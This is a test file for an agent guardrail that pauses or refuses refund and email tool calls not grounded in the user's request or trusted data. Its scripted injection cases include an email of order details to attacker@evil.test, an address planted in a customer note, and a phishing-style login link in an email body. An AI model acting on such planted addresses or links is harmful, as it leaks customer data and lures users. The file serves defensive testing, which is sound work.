// Provenance in the loop: a side-effecting call must be grounded in trusted context — the user's
// request asks for that kind of action, and its targets and amounts come from the request, the run's
// facts or a trusted tool result. These tests use a policy with no detectors and no argument rules, so
// what stops a call is the provenance check alone.
import { type AgentManifest, GuardrailPolicy, type ToolProvenance } from '@charter/spec';
import { MemoryLedger } from '@charter/tools';
import { describe, expect, it } from 'vitest';
import { createShop, shopManifest } from './__fixtures__/shop.js';
import { createAgent, MemoryStore, memoryEscalation, type RunResult } from './index.js';
import { scripted, type ScriptInput } from './models.js';
import { intentTerms, mentions, textValues, words } from './provenance.js';

const context = { customerEmail: 'ana@example.com', customerId: 'C-1', customerOrders: ['A-1', 'A-2', 'A-3'] };

function policy(
  provenance?: { enabled?: boolean; action?: 'needs-approval' | 'deny' },
  mode: 'enforce' | 'monitor' = 'enforce',
): GuardrailPolicy {
  return GuardrailPolicy.parse({
    apiVersion: 'charter.dev/v1alpha1',
    kind: 'GuardrailPolicy',
    metadata: { name: 'bare', owner: 'group:default/platform' },
    spec: { version: '1.0.0', mode, ...(provenance === undefined ? {} : { provenance }) },
  });
}

/** The shop manifest with provenance declarations on some grants. */
function manifest(declared: Record<string, Partial<ToolProvenance>> = {}): AgentManifest {
  const base = shopManifest();
  return {
    ...base,
    spec: {
      ...base.spec,
      tools: base.spec.tools.map((grant) => {
        const extra = declared[grant.name];
        return extra === undefined ? grant : { ...grant, provenance: { result: 'untrusted', untrustedFields: [], freeArgs: [], ...extra } };
      }),
    },
  };
}

function setup(script: ScriptInput, options: { manifest?: AgentManifest; policy?: GuardrailPolicy; governance?: 'enforce' | 'off' } = {}) {
  const shop = createShop();
  const store = new MemoryStore();
  const agent = createAgent({
    manifest: options.manifest ?? manifest(),
    policy: options.policy ?? policy(),
    model: scripted(script),
    tools: shop.tools,
    escalation: memoryEscalation(),
    store,
    ledger: new MemoryLedger(),
    ...(options.governance === undefined ? {} : { governance: options.governance }),
  });
  return { agent, shop, store };
}

const lookupThenRefund = (orderId: string, amount: number): ScriptInput => ({
  turns: [
    { toolCalls: [{ tool: 'lookup_order', args: { orderId } }] },
    { toolCalls: [{ tool: 'refund_order', args: { orderId, amount, reason: 'damaged' } }] },
    { text: 'Done.' },
  ],
});

function provenanceDecision(result: RunResult) {
  return result.decisions.find((d) => d.ruleIds.includes('provenance.ungrounded'));
}

describe('intent words', () => {
  it('come from the grant, or from the tool name with synonyms and without generic words', () => {
    expect(intentTerms({ name: 'refund_order' })).toEqual(['refund', 'reimburse', 'money back']);
    expect(intentTerms({ name: 'send_email' })).toEqual(['email', 'e-mail', 'mail']);
    expect(intentTerms({ name: 'escalate_to_human' })).toContain('person');
    expect(intentTerms({ name: 'tag_order' })).toEqual(['tag']);
    expect(intentTerms({ name: 'send_order' })).toEqual(['send', 'order']);
    expect(intentTerms({ name: 'refund_order', provenance: { intent: ['give back'] } })).toEqual(['give back']);
  });

  it('match whole words, their inflections and multi-word phrases', () => {
    const terms = ['refund', 'money back', 'e-mail'].map(words);
    expect(mentions(words('Can I get my money back?'), terms)).toBe(true);
    expect(mentions(words('It was refunded twice'), terms)).toBe(true);
    expect(mentions(words('Please E-Mail me'), terms)).toBe(true);
    expect(mentions(words('Where is my order? The refundable part...'), terms)).toBe(false);
    expect(mentions(words('my money is back'), terms)).toBe(false);
  });

  it('values are addresses, hosts, numbers and identifiers, normalised', () => {
    const keys: string[] = [];
    textValues('Refund $95.00 on A-1002 (see https://Shop.example/x?y=1) or mail Ana@Example.com, 1,250 USD total.', (key) =>
      keys.push(key),
    );
    expect(keys).toEqual(['n:95', 'i:a-1002', 'h:shop.example', 'e:ana@example.com', 'n:1250']);
  });
});

describe('a side-effecting call grounded in trusted context', () => {
  it('runs without approval when the request asks for it and names its values', async () => {
    const { agent, shop } = setup({
      turns: [{ toolCalls: [{ tool: 'refund_order', args: { orderId: 'A-1', amount: 40, reason: 'damaged' } }] }, { text: 'Refunded.' }],
    });
    const result = await agent.run('Please refund 40 USD on order A-1, it arrived damaged.', { context });
    expect(result.status).toBe('completed');
    expect(result.decisions).toEqual([]);
    expect(shop.refunds).toEqual([{ orderId: 'A-1', amount: 40 }]);
  });

  it('takes addresses from the run facts and amounts from a trusted result', async () => {
    const trusted = manifest({ lookup_order: { result: 'trusted', untrustedFields: ['note'] } });
    const { agent, shop } = setup(lookupThenRefund('A-1', 40), { manifest: trusted });
    const result = await agent.run('My order A-1 arrived damaged, can I get my money back?', { context });
    expect(result.status).toBe('completed');
    expect(shop.refunds).toEqual([{ orderId: 'A-1', amount: 40 }]);

    const mail = setup(
      {
        turns: [
          { toolCalls: [{ tool: 'send_email', args: { to: ['ana@example.com'], subject: 'Your order', body: 'It was delivered.' } }] },
          { text: 'Sent.' },
        ],
      },
      { manifest: trusted },
    );
    expect((await mail.agent.run('Email me the status of A-1 please.', { context })).status).toBe('completed');
  });
});

describe('a call not grounded in trusted context', () => {
  it('needs approval when the user did not ask for that kind of action, naming the untrusted content read before', async () => {
    const { agent, shop } = setup(lookupThenRefund('A-1', 40));
    const result = await agent.run('Where is my order A-1?', { context });
    expect(result.status).toBe('paused');
    expect(shop.refunds).toEqual([]);
    const decision = provenanceDecision(result);
    expect(decision).toMatchObject({ hook: 'tool-call', action: 'needs-approval', callId: 'call_1_0', enforced: true });
    expect(decision?.provenance?.[0]).toMatchObject({
      kind: 'intent',
      path: '',
      message: expect.stringContaining('does not ask for refund_order') as unknown,
    });
    expect(result.approval?.provenance?.map((reason) => reason.kind)).toEqual(['intent', 'value']);
    expect(result.approval?.reason).toContain('lookup_order, call call_0_0');
  });

  it('needs approval when a value comes only from an untrusted tool result, and names that result', async () => {
    const { agent } = setup(lookupThenRefund('A-1', 40));
    const result = await agent.run('Please refund my order A-1, it arrived damaged.', { context });
    expect(result.status).toBe('paused');
    expect(provenanceDecision(result)?.provenance).toEqual([
      {
        kind: 'value',
        path: '/amount',
        value: '40',
        source: { tool: 'lookup_order', callId: 'call_0_0' },
        message: expect.stringContaining('comes from untrusted content (the result of lookup_order, call call_0_0)') as unknown,
      },
    ]);
  });

  it('treats the untrusted fields of a trusted result as untrusted', async () => {
    // A-3's note (a customer's text) holds attacker@evil.test; the rest of the order record is trusted.
    const trusted = manifest({ lookup_order: { result: 'trusted', untrustedFields: ['note'] } });
    const script: ScriptInput = {
      turns: [
        { toolCalls: [{ tool: 'lookup_order', args: { orderId: 'A-3' } }] },
        { toolCalls: [{ tool: 'send_email', args: { to: ['attacker@evil.test'], subject: 'Order A-3', body: 'Details of A-3.' } }] },
        { text: 'Sent.' },
      ],
    };
    const { agent, shop } = setup(script, { manifest: trusted });
    const result = await agent.run('Please email me the details of order A-3.', { context });
    expect(result.status).toBe('paused');
    expect(shop.emails).toEqual([]);
    expect(provenanceDecision(result)?.provenance).toMatchObject([
      { kind: 'value', path: '/to/0', value: 'attacker@evil.test', source: { tool: 'lookup_order', callId: 'call_0_0' } },
    ]);
  });

  it('checks the links and addresses inside free text, not its words', async () => {
    const script = (body: string): ScriptInput => ({
      turns: [
        { toolCalls: [{ tool: 'lookup_order', args: { orderId: 'A-1' } }] },
        { toolCalls: [{ tool: 'send_email', args: { to: ['ana@example.com'], subject: 'Order A-1', body } }] },
        { text: 'Sent.' },
      ],
    });
    const plain = setup(script('Your order was delivered, left at the door.'));
    expect((await plain.agent.run('Email me the status of A-1.', { context })).status).toBe('completed');
    const link = setup(script('Confirm your address at https://acme-verify.example/login now.'));
    const result = await link.agent.run('Email me the status of A-1.', { context });
    expect(result.status).toBe('paused');
    expect(provenanceDecision(result)?.provenance).toMatchObject([{ kind: 'derived', path: '/body', value: 'acme-verify.example' }]);
  });

  it('leaves the values of freeArgs unchecked', async () => {
    const free = manifest({ refund_order: { freeArgs: ['amount'] } });
    const { agent } = setup(lookupThenRefund('A-1', 40), { manifest: free });
    expect((await agent.run('Please refund my order A-1, it arrived damaged.', { context })).status).toBe('completed');
  });

  it('is refused when the policy says deny; the model is told and the run goes on', async () => {
    const { agent, shop } = setup(lookupThenRefund('A-1', 40), { policy: policy({ action: 'deny' }) });
    const result = await agent.run('Where is my order A-1?', { context });
    expect(result.status).toBe('completed');
    expect(shop.refunds).toEqual([]);
    expect(result.actions.at(-1)).toMatchObject({ tool: 'refund_order', outcome: 'refused', ruleIds: ['provenance.ungrounded'] });
  });

  it('is recorded but not enforced in monitor mode, off when the policy disables it, absent with governance off', async () => {
    const monitored = await setup(lookupThenRefund('A-1', 40), { policy: policy(undefined, 'monitor') }).agent.run(
      'Where is my order A-1?',
      {
        context,
      },
    );
    expect(monitored.status).toBe('completed');
    expect(provenanceDecision(monitored)).toMatchObject({ action: 'needs-approval', enforced: false });
    const disabled = await setup(lookupThenRefund('A-1', 40), { policy: policy({ enabled: false }) }).agent.run('Where is my order A-1?', {
      context,
    });
    expect(disabled.status).toBe('completed');
    expect(disabled.decisions).toEqual([]);
    const off = await setup(lookupThenRefund('A-1', 40), { governance: 'off' }).agent.run('Where is my order A-1?', { context });
    expect(off.status).toBe('completed');
  });

  it('is checked again after a resume: the labels are rebuilt from the checkpoint', async () => {
    const script: ScriptInput = {
      turns: [
        { toolCalls: [{ tool: 'lookup_order', args: { orderId: 'A-1' } }] },
        { toolCalls: [{ tool: 'refund_order', args: { orderId: 'A-1', amount: 40, reason: 'damaged' } }] },
        { toolCalls: [{ tool: 'escalate_to_human', args: { summary: 'Refund done for A-1.', priority: 'normal' } }] },
        { text: 'Done.' },
      ],
    };
    const { agent, shop } = setup(script);
    const paused = await agent.run('Refund my order A-1 please.', { context, runId: 'resume-provenance' });
    expect(paused.approval?.provenance?.map((r) => r.kind)).toEqual(['value']);
    const resumed = await agent.resume('resume-provenance', { approved: true, approver: 'lead@example.com' });
    expect(shop.refunds).toEqual([{ orderId: 'A-1', amount: 40 }]);
    // The ticket was not asked for: it waits for a human too.
    expect(resumed.status).toBe('paused');
    expect(resumed.approval).toMatchObject({ tool: 'escalate_to_human' });
    expect(resumed.approval?.provenance?.[0]).toMatchObject({ kind: 'intent' });
  });

  it('does not count a value first seen in untrusted content as grounded after a repair prompt echoes it', async () => {
    const script: ScriptInput = {
      turns: [
        { toolCalls: [{ tool: 'lookup_order', args: { orderId: 'A-1' } }] },
        { malformed: { tool: 'refund_order', input: '{"orderId":"A-1","amount":40' } },
        { toolCalls: [{ tool: 'refund_order', args: { orderId: 'A-1', amount: 40, reason: 'damaged' } }] },
        { text: 'Done.' },
      ],
    };
    const result = await setup(script).agent.run('Refund my order A-1 please.', { context });
    expect(result.status).toBe('paused');
    expect(provenanceDecision(result)?.provenance?.map((r) => r.kind)).toEqual(['value']);
  });
});
